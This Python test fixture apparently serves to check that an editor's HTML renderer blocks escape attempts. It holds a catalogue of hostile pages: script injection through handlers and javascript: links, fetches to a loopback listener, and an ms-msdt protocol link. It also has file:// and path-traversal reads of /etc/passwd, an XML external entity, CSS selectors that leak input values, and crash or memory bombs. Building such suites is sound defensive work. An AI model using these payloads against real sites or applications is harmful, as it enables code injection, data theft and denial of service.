"""Pages that try to get out, as one table: what each tries, and its HTML.

`{web}` is a listener on loopback, `{port}` its port, `{name}` a name that would have to be looked up, `{file}` a folder
on this disk that holds `leak.css`, `leak.png` and `leak.html`. A script that runs does `{ran}`.
"""

# ruff: noqa: E501

from __future__ import annotations

from hostile.wider import WIDER

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50">{}</svg>'
)


def _fetch(address: str) -> str:
    """Elements that fetch `address` as a picture, a style sheet, a frame, a sound and a plugin."""
    return (
        f"<img src='{address}/leak.png'><link rel=stylesheet href='{address}/leak.css'><iframe src='{address}/leak.html'>"
        f"</iframe><object data='{address}/leak.png'></object><embed src='{address}/leak.html'>"
        f"<audio src='{address}/a.mp3' autoplay></audio><div style='background:url({address}/leak.png)'>b</div>"
    )


_HEAD = {
    f"link rel={kind}": f"<link rel='{kind}' href='{{web}}/{number}' as=image crossorigin><link rel='{kind}' href='{{name}}/'>"
    for number, kind in enumerate(
        [
            "preload",
            "prefetch",
            "preconnect",
            "dns-prefetch",
            "stylesheet",
            "icon",
            "manifest",
            "modulepreload",
            "prerender",
            "next",
            "apple-touch-icon",
            "search",
            "pingback",
            "expect",
            "compression-dictionary",
        ]
    )
}

_LINKS = {
    f"link to {address.split(':')[0] or 'another host'}{' in ' + target if target else ''}": (
        f"<a href='{address}' {f'target={target}' if target else ''}>go go go</a>"
    )
    for address in (
        "{web}/link",
        "//127.0.0.1:{port}/link",
        "mailto:a@b.example",
        "tel:+44",
        "sms:1",
        "ms-msdt:/id%20PCWDiagnostic",
        "search-ms:query=x",
        "vscode://x",
        "file://{file}/leak.html",
        "chrome://version",
        "devtools://devtools/bundled/inspector.html",
        "qrc:/x",
        "view-source:{web}/",
        "data:text/html,<script>top.{ran}</script>",
        "blob:midweek-page://page/x",
        "filesystem:{web}/x",
        "about:blank",
        "javascript:{ran}",
        "midweek-editor://app/index.html",
        "ftp://127.0.0.1:{port}/",
        "ws://127.0.0.1:{port}/",
    )
    for target in ("", "_blank")
}

_OTHER = {
    "script": "<script>{ran}; new Image().src='{web}/s'; fetch('{web}/f'); new WebSocket('ws://127.0.0.1:{port}/')</script>",
    "script from elsewhere": "<script src='{web}/x.js'></script><script type=module src='{web}/m.js'></script>",
    "script from a worker": "<script>new Worker('{web}/w.js'); navigator.serviceWorker.register('/sw.js')</script>",
    "import map and speculation rules": (
        "<script type=importmap>{\"imports\":{\"a\":\"{web}/i.js\"}}</script>"
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"{web}/spec\"]}],\"prerender\":[{\"urls\":[\"{web}/pre\"]}]}</script>"
    ),
    "handlers": "<body onload=\"{ran}\"><img src=x onerror=\"{ran}\"><details open ontoggle=\"{ran}\"><p onclick=\"{ran}\">click</p>",
    "autofocus handler": "<input autofocus onfocus=\"{ran}\"><video onerror=\"{ran}\"><source></video>",
    "javascript address": "<iframe src=\"javascript:{ran}\"></iframe><form action=\"javascript:{ran}\"><button>go</button></form>",
    "srcdoc": "<iframe srcdoc=\"<script>top.{ran}</script><img src='{web}/srcdoc'>\"></iframe>",
    "frames": "<iframe src='{web}/frame'></iframe><iframe src='index.html'></iframe><fencedframe src='{web}/ff'></fencedframe>",
    "frameset": "<frameset cols='50%,50%'><frame src='{web}/a'><frame src='{name}/b'></frameset>",
    "portal and object in object": "<portal src='{web}/p'></portal><object data='{web}/a'><object data='{web}/b'></object></object>",
    "plugin": "<embed src='{web}/x.pdf' type=application/pdf><object data='{web}/x.swf' type=application/x-shockwave-flash></object>",
    "applet": "<applet codebase='{web}/' code=X></applet><object classid='clsid:0'><param name=movie value='{web}/x'></object>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={web}/refresh'>",
    "meta refresh to a script": "<meta http-equiv=refresh content=\"0;url=javascript:{ran}\">",
    "meta refresh to mail": "<meta http-equiv=refresh content='0;url=mailto:x@y.example'>",
    "meta policy, cookie, report": (
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'; report-uri {web}/csp\">"
        "<meta http-equiv=set-cookie content=a=b><meta http-equiv=x-dns-prefetch-control content=on><img src='{web}/p'>"
    ),
    "form sent by its button": "<form action='{web}/form' method=post><input name=a value=b><button>send</button><input type=image src='{web}/i' alt=send></form>",
    "form into a new window": "<form action='{web}/form' target=_blank><input type=submit formaction='{web}/formaction'></form>",
    "form by mail": "<form action='mailto:a@b.example' method=post enctype=text/plain><button>send</button></form>",
    "form over dialog": "<dialog open><form method=dialog><button formaction='{web}/d' formmethod=get>ok</button></form></dialog>",
    "form on enter": "<form action='{web}/enter'><input autofocus value=x></form>",
    "css import": "<style>@import '{web}/import.css'; @import url({name}/i.css); @import 'file://{file}/leak.css'</style><p>words",
    "css url": "<style>body{background:url({web}/bg);cursor:url({web}/c),auto;list-style-image:url({web}/l)}</style><ul><li>one</ul>",
    "css image functions": "<style>p{background:image-set('{web}/1x' 1x);border-image:url({web}/b);mask:url({web}/m#x);clip-path:url({web}/c#x);filter:url({web}/f#x);shape-outside:url({web}/s)}</style><p>words",
    "css fonts": "<style>@font-face{font-family:f;src:url({web}/f.woff2),url({name}/g.ttf),url(file://{file}/f.ttf)}p{font:20px f}</style><p>words",
    "css generated content": "<style>p::before{content:url({web}/content)}p:hover{background:url({web}/hover)}a:visited{background:url({web}/v)}</style><p>words",
    "css selectors that spy": "<style>input[value^=a]{background:url({web}/a)}</style><input value=abc>",
    "css expression and behaviour": "<style>p{width:expression({ran});behavior:url({web}/b.htc);-moz-binding:url({web}/x#y)}</style><p>w",
    "css namespace, document, charset": "<style>@charset 'x';@namespace url({web}/ns);@document url({web}/){p{color:red}}</style><p>words",
    "style attribute": "<p style=\"background:url('{web}/attr');--x:url({web}/v);mask-image:url({web}/m)\">words</p>",
    "background attributes": "<body background='{web}/body'><table background='{web}/table'><td background='{web}/td'>x</table>",
    "svg image and use": _SVG.format("<image href='{web}/i' width=9 height=9 /><use href='{web}/u.svg#x'/><use xlink:href='{name}/u.svg#x'/><feImage href='{web}/fe'/>"),
    "svg script": _SVG.format("<script>{ran}</script><script href='{web}/s.js'/><a href=\"javascript:{ran}\"><rect width=50 height=50 /></a>"),
    "svg foreign object": _SVG.format("<foreignObject width=50 height=50><iframe xmlns='http://www.w3.org/1999/xhtml' src='{web}/fo'/><img xmlns='http://www.w3.org/1999/xhtml' src='{web}/foi'/></foreignObject>"),
    "svg animation to a script": _SVG.format("<a><animate attributeName=href values=\"javascript:{ran}\"/><set attributeName=href to='{web}/set'/><rect width=50 height=50 /></a>"),
    "svg picture that fetches": "<img src='evil.svg'><object data='evil.svg'></object><iframe src='evil.svg'></iframe>",
    "sound and film": "<audio src='{web}/a' autoplay></audio><video src='{web}/v' poster='{web}/p' autoplay muted><track default src='{web}/t.vtt'><source src='{web}/s'></video>",
    "base": "<base href='{web}/' target=_blank><img src=relative><a href=relative>go go go</a><form><button>send</button></form>",
    "base to the disk": "<base href='file://{file}/'><img src=leak.png><link rel=stylesheet href=leak.css>",
    "srcset and picture": "<img srcset='{web}/1 1x, {web}/2 2x' sizes=100vw><picture><source srcset='{web}/3'><img src='{web}/4' loading=lazy></picture>",
    "ping": "<a href='#x' ping='{web}/ping {name}/ping'>go go go</a><area ping='{web}/p2' href='#x'>",
    "attribution and shared storage": "<img attributionsrc='{web}/at' src='{web}/i'><a attributionsrc='{web}/a' href='#'>go go go</a>",
    "old fetching attributes": "<img longdesc='{web}/l' lowsrc='{web}/lo' dynsrc='{web}/d' usemap='{web}/#m'><blockquote cite='{web}/c'>x</blockquote><html manifest='{web}/m'>",
    "login in an address": "<img src='http://user:secret@127.0.0.1:{port}/i'><a href='http://user:secret@127.0.0.1:{port}/'>go go go</a>",
    "everything from the web": _fetch("{web}"),
    "everything by name": _fetch("{name}"),
    "everything from the disk": _fetch("file://{file}"),
    "everything over a share": _fetch("file://127.0.0.1/share") + _fetch("\\\\127.0.0.1\\share"),
    "everything from chrome": _fetch("chrome://resources") + _fetch("devtools://devtools") + _fetch("qrc:///"),
    "everything over ftp and tls": _fetch("ftp://127.0.0.1:{port}") + _fetch("https://127.0.0.1:{port}"),
    "everything from our editor": _fetch("midweek-editor://app"),
    "outside its folder": "<img src='../../../../../../etc/passwd'><link rel=stylesheet href='/%2e%2e/%2e%2e{file}/leak.css'><img src='..%2f..%2fleak.png'>",
    "data pictures of a size nobody checked": "<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='>",
    "huge picture": "<img src='huge.png'>",
    "dialogs": "<input type=color><input type=file><input type=file multiple webkitdirectory><label>label<input type=color></label>",
    "colour dialog in a closed shadow": "<div><template shadowrootmode=closed><input type=color><input type=file></template></div>",
    "pickers": "<input type=date><input type=datetime-local><select><option>a<option>b</select><input list=l><datalist id=l><option>x</datalist>",
    "download": "<a href='index.html' download=x.exe>go go go</a><a href='data:text/plain,x' download>go go go</a><a href='{web}/d' download>go go go</a>",
    "popover and commands": "<button popovertarget=p>open</button><div popover id=p><a href='{web}/pop'>go go go</a></div><button commandfor=d command=show-modal>modal</button><dialog id=d><form action='{web}/m'><button autofocus>go</button></form></dialog>",
    "interest and anchors": "<button interestfor=i>hover</button><div popover=hint id=i><img src='{web}/hint'></div><a href='{web}/i' interestfor=i>x</a>",
    "shadow roots": "<div><template shadowrootmode=open><img src='{web}/shadow'><link rel=stylesheet href='{web}/s.css'><script>{ran}</script></template></div>",
    "template and noscript": "<template><img src='{web}/t'></template><noscript><img src='{web}/n'><meta http-equiv=refresh content='0;{web}/nr'></noscript>",
    "mathml": "<math href='{web}/m'><mtext href='javascript:document.title=1'>x</mtext><maction actiontype='statusline#x' xlink:href='{web}/a'>go go go</maction></math>",
    "xml and entities": "<?xml-stylesheet href='{web}/x.css'?><!DOCTYPE x SYSTEM '{web}/x.dtd' [<!ENTITY e SYSTEM 'file://{file}/leak.html'>]><p>&e;",
    "html import and web bundle": "<link rel=import href='{web}/i.html'><script type=webbundle>{\"source\":\"{web}/b.wbn\"}</script><link rel=webbundle href='{web}/w'>",
    "payment and permission": "<link rel=payment-method-manifest href='{web}/p'><permission type=camera>x</permission><geolocation autolocate>x</geolocation><usermedia type=camera>x</usermedia>",
    "credentials": "<form action='{web}/l'><input name=u autocomplete=username><input type=password autocomplete=current-password><button>in</button></form>",
    "whole page link": "<a href='{web}/all' style='position:fixed;inset:0;display:block'>go</a>",
    "access keys and history": "<a accesskey=x href='{web}/key'>go go go</a><button accesskey=y formaction='{web}/k'>x</button>",
    "map": "<img usemap='#m' src=own.png width=100 height=100><map name=m><area shape=rect coords='0,0,100,100' href='{web}/map' target=_blank></map>",
    "content editable": "<div contenteditable autofocus><a href='{web}/ce'>go go go</a></div><body contenteditable>",
    "xsl": "<xsl:import href='{web}/x.xsl'/><?xml-stylesheet type='text/xsl' href='{web}/s.xsl'?>",
    "endless animations": "<style>@keyframes a{to{transform:rotate(1turn);filter:blur(9px)}}b{animation:a .01s infinite;display:inline-block}</style>" + "<b>x</b>" * 200,
    "marquees": "<marquee behavior=alternate scrollamount=999><img src='{web}/mq'><a href='{web}/ma'>go</a></marquee>" * 20,
}  # fmt: skip

# These may take the renderer down, and only the renderer: the page is stopped, and the next one is shown.
DEADLY = {
    "nested tables": "<table><tr><td>" * 3000,
    "nested flex boxes": "<div style='display:flex;flex-wrap:wrap'>" * 1500 + "x",
    "svg use bomb": _SVG.format(
        "<g id=a0><rect width=1 height=1 /></g>"
        + "".join(f"<g id=a{n}>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>" for n in range(1, 9))
    ),
}

PAGES = {**_HEAD, **_LINKS, **_OTHER, **WIDER}

# These would take all the memory that there is.
GREEDY_PAGES = {
    "filters on huge boxes": (
        "<style>div{filter:blur(500px) drop-shadow(0 0 500px red);width:30000px;height:30000px;"
        "background:linear-gradient(red,blue)}</style>" + "<div>" * 30 + "x"
    ),
    "svg use bomb": DEADLY["svg use bomb"],
}
